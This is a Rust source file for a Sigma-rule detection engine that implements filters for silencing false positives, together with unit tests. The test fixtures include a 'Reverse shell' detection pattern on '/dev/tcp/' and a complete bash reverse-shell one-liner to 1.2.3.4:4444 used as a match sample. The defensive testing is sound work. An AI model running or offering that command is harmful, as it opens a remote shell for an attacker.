//! Sigma filters (specification v2, "Sigma Filters"): documents that refine rules without
//! changing them, so a false positive of a shipped rule is silenced without forking the rule.
//!
//! ```yaml
//! title: Argo CD creates its applications' namespaces
//! logsource: {product: kubernetes, service: audit}
//! filter:
//!     rules: [kestrel-k8s-disallowed-namespace]     # rule ids or names, or `any`
//!     selection:
//!         user.username: 'system:serviceaccount:argocd:argocd-application-controller'
//!     condition: not selection
//! ```
//!
//! Semantics (pySigma's `SigmaFilter`):
//! - Each rule the filter names (by id or name) gets the condition
//!   `(<rule condition>) and (<filter condition>)`; several filters on one rule all apply.
//!   The filter's search identifiers are its own (they never clash with the rule's) and are
//!   compiled as the rule's are: modifiers, wildcards, placeholders (`|expand`), the rule's
//!   field mappings.
//! - `rules: any` (or `all`, or an empty list) refines every detection rule whose log source
//!   the filter's covers; a log source covers a rule's when each of its `category`, `product`
//!   and `service` is unset or equal to the rule's.
//! - A named rule that does not exist, that is a correlation, or whose log source the filter's
//!   does not cover is an error when the rules are loaded, naming the filter's file and the
//!   rule. (pySigma skips a rule of another log source silently; a filter written for a rule
//!   it can never refine is a mistake worth stopping on, as is a rule that was renamed.)
//! - The rules' own tests run against the rules as shipped; a filter's `tests` (`match` and
//!   `no_match` events) run against each rule it refines, refined by it alone (see
//!   [`crate::testing`]).

use std::path::PathBuf;

use serde::Deserialize;
use serde_json::{Map, Value};

use crate::error::RuleError;
use crate::placeholder::{unknown_message, used_in, Placeholders};
use crate::rule::{LogSource, RuleDocument, RuleTests, SigmaRule};

/// A Sigma filter document.
#[derive(Debug, Clone, PartialEq)]
pub struct SigmaFilter {
    /// Short title.
    pub title: String,
    /// Unique id.
    pub id: Option<String>,
    /// Name.
    pub name: Option<String>,
    /// Why the events it removes are benign.
    pub description: Option<String>,
    /// The log source of the rules it may refine.
    pub logsource: LogSource,
    /// The rules it refines.
    pub rules: FilterTargets,
    /// Its search identifiers (everything of `filter` but `rules` and `condition`).
    pub searches: Map<String, Value>,
    /// Its condition, joined with `and` to the rules' conditions.
    pub condition: String,
    /// Events the rules it refines must still match (`match`) and must no longer match
    /// (`no_match`).
    pub tests: Option<RuleTests>,
    /// The file (or other origin) it was read from.
    pub origin: String,
    /// The values of the placeholders its searches name, set when it is loaded.
    pub placeholders: Placeholders,
}

/// The rules a filter refines.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FilterTargets {
    /// Every detection rule of its log source (`rules: any`).
    Any,
    /// The rules with these ids or names.
    Named(Vec<String>),
}

/// The fields of a filter document, as written.
#[derive(Debug, Deserialize)]
struct FilterDocument {
    title: String,
    #[serde(default)]
    id: Option<String>,
    #[serde(default)]
    name: Option<String>,
    #[serde(default)]
    description: Option<String>,
    logsource: LogSource,
    filter: Map<String, Value>,
    #[serde(default)]
    tests: Option<RuleTests>,
}

impl SigmaFilter {
    /// Reads a filter document (a YAML document with a top-level `filter`); the error names
    /// the field at fault.
    pub fn from_value(origin: &str, value: Value) -> Result<SigmaFilter, String> {
        let document: FilterDocument = serde_json::from_value(value).map_err(|e| e.to_string())?;
        let mut searches = document.filter;
        let rules = match searches.remove("rules") {
            None => {
                return Err(
                    "filter.rules: missing (rule ids or names, or `any` for every rule of the \
                     log source)"
                        .into(),
                )
            }
            Some(value) => targets(value)?,
        };
        let condition = match searches.remove("condition") {
            Some(Value::String(text)) if !text.trim().is_empty() => text,
            Some(Value::String(_)) | None => return Err("filter.condition: missing".into()),
            Some(_) => return Err("filter.condition: must be a single string".into()),
        };
        if searches.is_empty() {
            return Err("filter: no search identifier besides `rules` and `condition`".into());
        }
        Ok(SigmaFilter {
            title: document.title,
            id: document.id,
            name: document.name,
            description: document.description,
            logsource: document.logsource,
            rules,
            searches,
            condition,
            tests: document.tests,
            origin: origin.to_owned(),
            placeholders: Placeholders::new(),
        })
    }

    /// The id if any, else the name, else the title: how errors, alerts and test reports name
    /// the filter.
    pub fn reference(&self) -> &str {
        self.id
            .as_deref()
            .or(self.name.as_deref())
            .unwrap_or(&self.title)
    }

    /// Checks that every placeholder its searches name has values and gives it those values.
    pub fn resolve_placeholders(&mut self, placeholders: &Placeholders) -> Result<(), RuleError> {
        let used = used_in(&self.searches);
        if let Some((part, name)) = used
            .iter()
            .find(|(_, name)| placeholders.get(name).is_none())
        {
            return Err(self.error(part, unknown_message(name)));
        }
        self.placeholders = placeholders.subset(used.iter().map(|(_, name)| name.as_str()));
        Ok(())
    }

    /// Whether its log source covers `rule`'s: each of its fields unset or equal.
    pub fn covers(&self, rule: &LogSource) -> bool {
        let same = |mine: &Option<String>, theirs: &Option<String>| match (mine, theirs) {
            (None, _) => true,
            (Some(mine), Some(theirs)) => mine.eq_ignore_ascii_case(theirs),
            (Some(_), None) => false,
        };
        same(&self.logsource.category, &rule.category)
            && same(&self.logsource.product, &rule.product)
            && same(&self.logsource.service, &rule.service)
    }

    /// Whether it refines `rule` (same file and reference: the filter as loaded).
    pub fn is_same(&self, other: &SigmaFilter) -> bool {
        self.origin == other.origin && self.reference() == other.reference()
    }

    /// An error of this filter, at `filter.<part>`.
    pub(crate) fn error(&self, part: &str, message: String) -> RuleError {
        RuleError::Filter {
            origin: self.origin.clone(),
            filter: self.reference().to_owned(),
            part: part.to_owned(),
            message,
        }
    }
}

fn targets(value: Value) -> Result<FilterTargets, String> {
    let invalid = || "filter.rules: must be a rule id or name, a list of them, or `any`".to_owned();
    match value {
        Value::String(text)
            if text.eq_ignore_ascii_case("any") || text.eq_ignore_ascii_case("all") =>
        {
            Ok(FilterTargets::Any)
        }
        Value::String(text) if !text.trim().is_empty() => Ok(FilterTargets::Named(vec![text])),
        Value::Array(items) if items.is_empty() => Ok(FilterTargets::Any),
        Value::Array(items) => items
            .into_iter()
            .map(|item| match item {
                Value::String(text) if !text.trim().is_empty() => Ok(text),
                _ => Err(invalid()),
            })
            .collect::<Result<Vec<_>, _>>()
            .map(FilterTargets::Named),
        _ => Err(invalid()),
    }
}

/// Whether `reference` (as a filter lists its rules) names `rule`: its id or its name.
fn names(reference: &str, id: Option<&str>, name: Option<&str>) -> bool {
    id == Some(reference) || name == Some(reference)
}

/// Attaches every filter of `documents` to the detection rules it refines (their
/// [`SigmaRule::filters`]), in the order the filters come. The filter documents stay in the
/// list (their tests run with the rules'). Errors name the filter's file and the rule.
pub fn apply_filters(documents: &mut [(PathBuf, RuleDocument)]) -> Result<(), RuleError> {
    let filters: Vec<SigmaFilter> = documents
        .iter()
        .filter_map(|(_, d)| match d {
            RuleDocument::Filter(filter) => Some(filter.clone()),
            _ => None,
        })
        .collect();
    for filter in filters {
        let targets = targets_of(&filter, documents)?;
        for i in targets {
            if let RuleDocument::Detection(rule) = &mut documents[i].1 {
                if !rule.filters.iter().any(|f| f.is_same(&filter)) {
                    rule.filters.push(filter.clone());
                }
            }
        }
    }
    Ok(())
}

/// Attaches each of `filters` to the detection rules of `documents` it refines, leniently: a
/// rule the filter names that is not among `documents`, or is of a log source the filter does
/// not cover, is passed over. For rule sets that hold only some of the rules the filters were
/// written for, such as the rules posted to a hunt, refined by the configured filters
/// (loaded strictly with the pack when detection starts).
pub fn refine_present(documents: &mut [RuleDocument], filters: &[SigmaFilter]) {
    for filter in filters {
        for document in documents.iter_mut() {
            let RuleDocument::Detection(rule) = document else {
                continue;
            };
            let named = match &filter.rules {
                FilterTargets::Any => true,
                FilterTargets::Named(references) => references
                    .iter()
                    .any(|r| names(r, rule.id.as_deref(), rule.name.as_deref())),
            };
            let refines = named && filter.covers(&rule.logsource);
            if refines && !rule.filters.iter().any(|f| f.is_same(filter)) {
                rule.filters.push(filter.clone());
            }
        }
    }
}

/// The indexes in `documents` of the detection rules `filter` refines.
fn targets_of(
    filter: &SigmaFilter,
    documents: &[(PathBuf, RuleDocument)],
) -> Result<Vec<usize>, RuleError> {
    let rules = documents
        .iter()
        .enumerate()
        .filter_map(|(i, (_, d))| match d {
            RuleDocument::Detection(rule) => Some((i, rule)),
            _ => None,
        });
    let FilterTargets::Named(references) = &filter.rules else {
        return Ok(rules
            .filter(|(_, rule)| filter.covers(&rule.logsource))
            .map(|(i, _)| i)
            .collect());
    };
    let mut found = Vec::new();
    for reference in references {
        let matching: Vec<(usize, &SigmaRule)> = rules
            .clone()
            .filter(|(_, rule)| names(reference, rule.id.as_deref(), rule.name.as_deref()))
            .collect();
        if matching.is_empty() {
            let correlation = documents.iter().any(|(_, d)| match d {
                RuleDocument::Correlation(c) => {
                    names(reference, c.id.as_deref(), c.name.as_deref())
                }
                _ => false,
            });
            let message = if correlation {
                format!("{reference:?} is a correlation rule; filters refine detection rules")
            } else {
                format!("no detection rule has the id or name {reference:?}")
            };
            return Err(filter.error("rules", message));
        }
        for (i, rule) in matching {
            if !filter.covers(&rule.logsource) {
                return Err(filter.error(
                    "rules",
                    format!(
                        "rule {reference:?} has log source {}, which the filter's ({}) does \
                         not cover",
                        describe(&rule.logsource),
                        describe(&filter.logsource)
                    ),
                ));
            }
            found.push(i);
        }
    }
    Ok(found)
}

/// `product: kubernetes, service: audit`.
fn describe(logsource: &LogSource) -> String {
    let parts: Vec<String> = [
        ("category", &logsource.category),
        ("product", &logsource.product),
        ("service", &logsource.service),
    ]
    .into_iter()
    .filter_map(|(key, value)| Some(format!("{key}: {}", value.as_ref()?)))
    .collect();
    if parts.is_empty() {
        "any".into()
    } else {
        parts.join(", ")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::compile::CompiledRule;
    use crate::engine::Detector;
    use crate::rule::{load_rule_set, load_rules, parse_rules, parse_rules_with};
    use serde_json::json;

    const ARGO: &str = "system:serviceaccount:argocd:argocd-application-controller";

    const RULES: &str = r#"
title: Namespace created
id: ns-created
name: namespace_created
logsource: {product: kubernetes, service: audit}
detection:
  selection:
    verb: create
    objectRef.resource: namespaces
  condition: selection
tests:
  match:
    - {verb: create, objectRef: {resource: namespaces}, user: {username: 'system:serviceaccount:argocd:argocd-application-controller'}}
  no_match:
    - {verb: delete, objectRef: {resource: namespaces}}
---
title: Reverse shell
id: reverse-shell
logsource: {product: kubernetes, service: container}
detection:
  keywords: ['/dev/tcp/']
  condition: keywords
tests:
  match: ['bash -i >& /dev/tcp/1.2.3.4/4444 0>&1']
  no_match: ['GET /index.html']
"#;

    const ARGO_FILTER: &str = r#"
title: Argo CD creates its applications' namespaces
id: argo-namespaces
logsource: {product: kubernetes, service: audit}
filter:
  rules: [ns-created]
  selection:
    user.username: 'system:serviceaccount:argocd:argocd-application-controller'
  condition: not selection
tests:
  match:
    - {verb: create, objectRef: {resource: namespaces}, user: {username: alice}}
  no_match:
    - {verb: create, objectRef: {resource: namespaces}, user: {username: 'system:serviceaccount:argocd:argocd-application-controller'}}
"#;

    fn audit(id: u32, user: &str, verb: &str) -> Value {
        json!({
            "@timestamp": format!("2024-05-01T10:00:{id:02}Z"),
            "event": {"kind": "k8s_audit", "id": format!("e{id}")},
            "verb": verb,
            "objectRef": {"resource": "namespaces", "name": format!("ns{id}")},
            "user": {"username": user},
        })
    }

    fn detector(yaml: &str) -> Detector {
        Detector::new(&parse_rules("rules.yml", yaml).unwrap()).unwrap()
    }

    /// The rule ids of the alerts raised on `event`.
    fn fired(detector: &mut Detector, event: &Value) -> Vec<String> {
        detector
            .evaluate(event)
            .into_iter()
            .map(|a| a.rule_id)
            .collect()
    }

    fn rule<'a>(documents: &'a [RuleDocument], id: &str) -> &'a SigmaRule {
        documents
            .iter()
            .find_map(|d| match d {
                RuleDocument::Detection(rule) if rule.id.as_deref() == Some(id) => Some(rule),
                _ => None,
            })
            .unwrap()
    }

    #[test]
    fn a_filter_removes_its_matches_and_leaves_the_others() {
        let mut plain = detector(RULES);
        assert_eq!(fired(&mut plain, &audit(1, ARGO, "create")), ["ns-created"]);

        let mut filtered = detector(&format!("{RULES}\n---\n{ARGO_FILTER}"));
        assert!(fired(&mut filtered, &audit(1, ARGO, "create")).is_empty());
        let alerts = filtered.evaluate(&audit(2, "alice", "create"));
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].rule_id, "ns-created");
        assert_eq!(alerts[0].filters, ["argo-namespaces"], "the alert says so");
        assert!(fired(&mut filtered, &audit(3, "alice", "delete")).is_empty());
        // The other rule is untouched.
        let shell = json!({
            "@timestamp": "2024-05-01T10:01:00Z",
            "event": {"kind": "container", "id": "c1"},
            "message": "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
        });
        let alerts = filtered.evaluate(&shell);
        assert_eq!(alerts.len(), 1);
        assert!(alerts[0].filters.is_empty());
    }

    #[test]
    fn two_filters_refine_one_rule_by_id_and_by_name() {
        let bob = r#"
title: Bob's namespaces
logsource: {product: kubernetes}
filter:
  rules: namespace_created
  bob:
    user.username|startswith: bob
  condition: not bob
"#;
        let yaml = format!("{RULES}\n---\n{ARGO_FILTER}\n---\n{bob}");
        let documents = parse_rules("rules.yml", &yaml).unwrap();
        let refined: Vec<&str> = rule(&documents, "ns-created")
            .filters
            .iter()
            .map(SigmaFilter::reference)
            .collect();
        assert_eq!(refined, ["argo-namespaces", "Bob's namespaces"]);
        assert!(rule(&documents, "reverse-shell").filters.is_empty());
        let mut detector = Detector::new(&documents).unwrap();
        assert!(fired(&mut detector, &audit(1, ARGO, "create")).is_empty());
        assert!(fired(&mut detector, &audit(2, "bob-ci", "create")).is_empty());
        assert_eq!(
            fired(&mut detector, &audit(3, "alice", "create")),
            ["ns-created"]
        );
    }

    #[test]
    fn a_filter_of_another_log_source_is_refused_for_a_named_rule_and_skipped_for_any() {
        let container = ARGO_FILTER.replace("service: audit", "service: container");
        let err = parse_rules("filters.yml", &format!("{RULES}\n---\n{container}"))
            .unwrap_err()
            .to_string();
        assert!(
            err.starts_with("filters.yml: filter \"argo-namespaces\": filter.rules:"),
            "{err}"
        );
        assert!(err.contains("\"ns-created\""), "{err}");
        assert!(err.contains("product: kubernetes, service: audit"), "{err}");

        // `any`: every rule of the filter's log source, the others untouched.
        let any = r#"
title: Test traffic
logsource: {product: kubernetes, service: container}
filter:
  rules: any
  probe:
    message|contains: healthcheck
  condition: not probe
"#;
        let documents = parse_rules("f.yml", &format!("{RULES}\n---\n{any}")).unwrap();
        assert_eq!(rule(&documents, "reverse-shell").filters.len(), 1);
        assert!(rule(&documents, "ns-created").filters.is_empty());
        let mut detector = Detector::new(&documents).unwrap();
        let line = |id: &str, message: &str| {
            json!({
                "@timestamp": "2024-05-01T10:01:00Z",
                "event": {"kind": "container", "id": id},
                "message": message,
            })
        };
        assert!(fired(&mut detector, &line("c1", "healthcheck /dev/tcp/x")).is_empty());
        assert_eq!(
            fired(&mut detector, &line("c2", "sh >& /dev/tcp/x")),
            ["reverse-shell"]
        );
    }

    #[test]
    fn an_unknown_rule_is_an_error_naming_the_filter_file() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("rules.yml"), RULES).unwrap();
        let filter = dir.path().join("local").join("argo.yml");
        std::fs::create_dir(filter.parent().unwrap()).unwrap();
        std::fs::write(&filter, ARGO_FILTER.replace("[ns-created]", "[ns-made]")).unwrap();
        let err = load_rules(dir.path()).unwrap_err().to_string();
        assert_eq!(
            err,
            format!(
                "{}: filter \"argo-namespaces\": filter.rules: no detection rule has the id or \
                 name \"ns-made\"",
                filter.display()
            )
        );
        // Naming a correlation is refused too.
        let correlation = r#"
title: Many namespaces
id: many
correlation: {type: event_count, rules: [ns-created], timespan: 1m, condition: {gte: 3}}
"#;
        std::fs::write(dir.path().join("corr.yml"), correlation).unwrap();
        std::fs::write(&filter, ARGO_FILTER.replace("[ns-created]", "[many]")).unwrap();
        let err = load_rules(dir.path()).unwrap_err().to_string();
        assert!(err.contains("\"many\" is a correlation rule"), "{err}");
    }

    #[test]
    fn filters_from_their_own_paths_apply_and_hold_filters_only() {
        let dir = tempfile::tempdir().unwrap();
        let rules = dir.path().join("rules.yml");
        std::fs::write(&rules, RULES).unwrap();
        let filters = dir.path().join("filters");
        std::fs::create_dir(&filters).unwrap();
        std::fs::write(filters.join("argo.yaml"), ARGO_FILTER).unwrap();
        let documents =
            load_rule_set(&rules, std::slice::from_ref(&filters), &Placeholders::new()).unwrap();
        let last = documents.last().unwrap();
        assert_eq!(last.0, filters.join("argo.yaml"));
        assert!(matches!(last.1, RuleDocument::Filter(_)));
        let detections: Vec<RuleDocument> = documents.into_iter().map(|(_, d)| d).collect();
        assert_eq!(rule(&detections, "ns-created").filters.len(), 1);
        let mut detector = Detector::new(&detections).unwrap();
        assert!(fired(&mut detector, &audit(1, ARGO, "create")).is_empty());

        std::fs::write(filters.join("rule.yml"), RULES).unwrap();
        let err = load_rule_set(&rules, std::slice::from_ref(&filters), &Placeholders::new())
            .unwrap_err()
            .to_string();
        assert!(
            err.starts_with(&format!(
                "{}: \"Namespace created\" is a rule, not a filter",
                filters.join("rule.yml").display()
            )),
            "{err}"
        );
    }

    #[test]
    fn placeholders_inside_a_filter_take_the_configured_values() {
        let filter = r#"
title: Deployers
id: deployers
logsource: {product: kubernetes, service: audit}
filter:
  rules: [ns-created]
  deployer:
    user.username|expand: '%deployers%'
  condition: not deployer
"#;
        let yaml = format!("{RULES}\n---\n{filter}");
        let mut placeholders = Placeholders::new();
        placeholders.insert("deployers", vec!["system:serviceaccount:argocd:*".into()]);
        let documents = parse_rules_with("f.yml", &yaml, &placeholders).unwrap();
        let mut detector = Detector::new(&documents).unwrap();
        assert!(fired(&mut detector, &audit(1, ARGO, "create")).is_empty());
        assert_eq!(
            fired(&mut detector, &audit(2, "alice", "create")),
            ["ns-created"]
        );

        let err = parse_rules_with("f.yml", &yaml, &Placeholders::new())
            .unwrap_err()
            .to_string();
        assert!(
            err.starts_with("f.yml: filter \"deployers\": filter.deployer:"),
            "{err}"
        );
        assert!(err.contains("%deployers%"), "{err}");
    }

    #[test]
    fn a_negated_filter_leaves_the_prefilter_as_it_was_and_a_positive_one_narrows_it() {
        let documents = parse_rules("f.yml", &format!("{RULES}\n---\n{ARGO_FILTER}")).unwrap();
        let rule = rule(&documents, "ns-created");
        let shipped = CompiledRule::compile_unfiltered(rule).unwrap();
        let filtered = CompiledRule::compile(rule).unwrap();
        assert_eq!(filtered.prefilter(), shipped.prefilter());
        assert_eq!(filtered.filters, ["argo-namespaces"]);

        let only_argo = ARGO_FILTER.replace("condition: not selection", "condition: selection");
        let documents = parse_rules("f.yml", &format!("{RULES}\n---\n{only_argo}")).unwrap();
        let refined = CompiledRule::compile(self::rule(&documents, "ns-created")).unwrap();
        let crate::compile::Prefilter::And(parts) = refined.prefilter() else {
            panic!("{:?}", refined.prefilter());
        };
        assert!(parts.contains(&crate::compile::Prefilter::Equals {
            field: "user.username".into(),
            value: ARGO.into(),
        }));
        // Every event the refined rule matches still reaches it through the rule index.
        let mut detector = Detector::new(&documents).unwrap();
        assert_eq!(
            fired(&mut detector, &audit(1, ARGO, "create")),
            ["ns-created"]
        );
        assert!(fired(&mut detector, &audit(2, "alice", "create")).is_empty());
    }

    #[test]
    fn a_filter_s_identifiers_never_clash_with_the_rule_s() {
        // The filter's `selection` is its own, not the rule's.
        let filter = ARGO_FILTER.replace(
            "condition: not selection",
            "condition: not selection and not 1 of sel*",
        );
        let mut detector = detector(&format!("{RULES}\n---\n{filter}"));
        assert!(fired(&mut detector, &audit(1, ARGO, "create")).is_empty());
        assert_eq!(
            fired(&mut detector, &audit(2, "alice", "create")),
            ["ns-created"]
        );
    }

    #[test]
    fn invalid_filters_name_the_field() {
        let cases = [
            (
                "rules: [ns-created]\n  condition: not x",
                "filter: no search identifier",
            ),
            (
                "x: {verb: get}\n  condition: not x",
                "filter.rules: missing",
            ),
            (
                "rules: [ns-created]\n  x: {verb: get}",
                "filter.condition: missing",
            ),
            (
                "rules: [ns-created]\n  x: {verb: get}\n  condition: [not x]",
                "filter.condition: must be a single string",
            ),
            (
                "rules: {a: 1}\n  x: {verb: get}\n  condition: not x",
                "filter.rules: must be",
            ),
        ];
        for (body, expected) in cases {
            let yaml = format!("title: t\nlogsource: {{product: kubernetes}}\nfilter:\n  {body}\n");
            let err = parse_rules("f.yml", &yaml).unwrap_err().to_string();
            assert!(err.starts_with("f.yml: document 1: "), "{err}");
            assert!(err.contains(expected), "{body}: {err}");
        }
        let yaml = "title: t\nfilter:\n  rules: any\n  x: {verb: get}\n  condition: not x\n";
        let err = parse_rules("f.yml", yaml).unwrap_err().to_string();
        assert!(err.contains("logsource"), "{err}");
        let bad_condition =
            ARGO_FILTER.replace("condition: not selection", "condition: not selected");
        let err = parse_rules("f.yml", &format!("{RULES}\n---\n{bad_condition}"))
            .and_then(|d| Detector::new(&d).map(|_| ()))
            .unwrap_err()
            .to_string();
        assert!(
            err.starts_with("f.yml: filter \"argo-namespaces\": filter.condition: (refining rule \"ns-created\")"),
            "{err}"
        );
    }

    fn test_results(yaml: &str) -> Vec<crate::testing::RuleTestResult> {
        let documents: Vec<(PathBuf, RuleDocument)> = parse_rules("f.yml", yaml)
            .unwrap()
            .into_iter()
            .map(|d| (PathBuf::from("f.yml"), d))
            .collect();
        crate::testing::run_rule_tests(&documents)
    }

    #[test]
    fn rule_tests_run_as_shipped_and_a_filter_s_tests_on_the_rule_it_refines() {
        // The rule's own `match` event is Argo's creation, which the filter removes: the
        // rule's tests still pass (they test the rule as shipped), and so do the filter's.
        let results = test_results(&format!("{RULES}\n---\n{ARGO_FILTER}"));
        assert_eq!(results.len(), 3);
        for result in &results {
            assert!(result.failures.is_empty(), "{result:?}");
        }
        assert_eq!(results[0].refines, ["argo-namespaces"]);
        assert!(!results[0].filter);
        assert!(results[2].filter);
        assert_eq!(results[2].refines, ["ns-created"]);
        assert_eq!(results[2].checked, 2);

        // Inverted by mistake: it would silence everything but Argo.
        let inverted = ARGO_FILTER.replace("condition: not selection", "condition: selection");
        let results = test_results(&format!("{RULES}\n---\n{inverted}"));
        let failures = &results[2].failures;
        assert_eq!(failures.len(), 2, "{failures:?}");
        assert!(failures[0].starts_with("should still match once filtered:"));
        assert!(failures[1].starts_with("should not match once filtered:"));

        // A no_match event the rule never matched proves nothing.
        let idle = ARGO_FILTER.replace(
            "{verb: create, objectRef: {resource: namespaces}, user: {username: 'system",
            "{verb: get, objectRef: {resource: namespaces}, user: {username: 'system",
        );
        let results = test_results(&format!("{RULES}\n---\n{idle}"));
        assert_eq!(results[2].failures.len(), 1, "{:?}", results[2].failures);
        assert!(results[2].failures[0].contains("nothing to remove"));

        // Tests are required, as for rules.
        let untested = &ARGO_FILTER[..ARGO_FILTER.find("tests:").unwrap()];
        let results = test_results(&format!("{RULES}\n---\n{untested}"));
        assert_eq!(
            results[2].failures,
            ["needs tests with `match` and `no_match` events"]
        );
    }
}
